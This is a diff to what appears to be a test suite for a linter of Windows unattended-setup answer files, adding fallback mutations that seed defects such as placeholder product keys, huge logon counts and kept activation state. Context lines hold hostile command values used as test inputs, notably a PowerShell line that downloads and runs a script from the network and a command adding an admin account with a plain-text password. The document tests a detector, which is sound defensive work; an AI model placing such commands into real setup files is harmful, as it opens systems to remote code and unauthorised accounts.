@@ -118,6 +118,10 @@ def add_line(path_test, text):
                 return [(last.end, last.end, b"\n" + f.indent(last) + text(f, n))]
     return mutate
 
+def either(*ways):
+    """the first of several mutations that fits"""
+    return lambda f: next((edits for edits in (way(f) for way in ways) if edits), None)
+
 def drop_child(name, path, **where):
     """removes a child; the finding is at its parent"""
     def mutate(f):
@@ -273,7 +277,10 @@ kind("UA302", "key with four groups")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9")
 kind("UA303", "key with a letter that no key has")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9-T83GA"))
 kind("UA304", "key with two N")(set_value(KEY, b"W269N-WFGWX-YVN9B-4J6C9-T83GX"))
 kind("UA305", "key with a wrong character")(set_value(KEY, b"W269N-WFGWX-YVC9B-4J6C9-T83GY"))
-kind("UA306", "placeholder as key")(set_value(KEY, b"XXXXX-XXXXX-XXXXX-XXXXX-XXXXX", test=lambda n: not any(b"Always" in c.value for c in n.parent.children)))
+kind("UA306", "placeholder as key")(either(
+    set_value(KEY, b"XXXXX-XXXXX-XXXXX-XXXXX-XXXXX", test=lambda n: not any(b"Always" in c.value for c in n.parent.children)),
+    add_line(lambda n: n.path == "UserData" and n.component == "Setup" and n.pass_ == "windowsPE" and not any(c.name == "ProductKey" for c in n.children),
+             lambda f, n: b"<ProductKey><Key>" + MARK + b"XXXXX-XXXXX-XXXXX-XXXXX-XXXXX</Key></ProductKey>")))
 kind("UA307", "empty key")(lambda f: next(([(n.start, n.start, MARK), (n.open_end, n.close, b"")] for n in f.find(KEY, test=lambda n: not n.empty)), None))
 kind("UA308", "key not in its element")(lambda f: next(([(n.open_end, n.close, MARK + b"W269N-WFGWX-YVC9B-4J6C9-T83GX")] for n in f.find("UserData/ProductKey", test=lambda n: not n.empty)), None))
 kind("UA309", "activation key in a wrong pass")(add_line(lambda n: shell("oobeSystem")(n) and not any(c.name == "ProductKey" for c in n.children), lambda f, n: MARK + b"<ProductKey>W269N-WFGWX-YVC9B-4J6C9-T83GX</ProductKey>"))
@@ -293,14 +300,19 @@ kind("UA518", "unknown key of the image choice")(set_value("ImageInstall/OSImage
 kind("UA520", "licence not accepted")(set_value("UserData/AcceptEula", b"false", test=lambda n: any(c.name == "OSImage" for i in n.chain()[2].children if i.name == "ImageInstall" for c in i.children)))
 kind("UA601", "OOBE skipped")(add_line(lambda n: n.path == "OOBE" and n.pass_ == "oobeSystem", lambda f, n: MARK + b"<SkipMachineOOBE>true</SkipMachineOOBE>"))
 kind("UA605", "AutoLogon without user")(drop_child("Username", "AutoLogon"))
-kind("UA607", "thousands of logons")(set_value("AutoLogon/LogonCount", b"9999"))
+kind("UA607", "thousands of logons")(either(set_value("AutoLogon/LogonCount", b"9999"),
+    add_line(lambda n: n.path == "AutoLogon" and n.component == "Shell-Setup" and not any(c.name == "LogonCount" for c in n.children),
+             lambda f, n: b"<LogonCount>" + MARK + b"9999</LogonCount>")))
 kind("UA608", "AutoLogon of nobody")(set_value("AutoLogon/Username", b"nobody-17"))
 kind("UA611", "hidden password that is none")(lambda f: next(([(p.open_end, p.close, b"false"), (v.open_end, v.close, MARK + b"QUJD")] for n in f.find("AutoLogon/Password|UserAccounts/AdministratorPassword") for p in n.children for v in n.children if p.name == "PlainText" and v.name == "Value" and p.value and v.value), None))
 kind("UA613", "password in a command")(set_value(".*/(SynchronousCommand/CommandLine|RunSynchronousCommand/Path)", b"net user admin Tr0ub4dor /add"))
 kind("UA701", "command too long")(set_value("FirstLogonCommands/SynchronousCommand/CommandLine", b"cmd /c echo " + b"x" * 1100))
 kind("UA702", "command that restarts")(set_value("RunSynchronous/RunSynchronousCommand/Path", b"shutdown /r /t 0", "Deployment"))
 kind("UA708", "command from the network")(set_value(".*/(SynchronousCommand/CommandLine|RunSynchronousCommand/Path)", b"powershell -Command iex (iwr http://example.com/x.ps1)"))
-kind("UA807", "activation state kept")(set_value("SkipRearm", b"1"))
+GENERALIZE = (b'<settings pass="generalize"><component name="Microsoft-Windows-Security-SPP" processorArchitecture="amd64" publicKeyToken="31bf3856ad364e35" '
+              b'language="neutral" versionScope="nonSxS"><SkipRearm>' + MARK + b"1</SkipRearm></component></settings>")
+kind("UA807", "activation state kept")(either(set_value("SkipRearm", b"1"),
+    add_line(lambda n: is_root(n) and n.tag == "unattend" and not any(c.attributes.get("pass") == "generalize" for c in n.children), lambda f, n: GENERALIZE)))
 
 # ---- the run -----------------------------------------------------------------------------------------
 
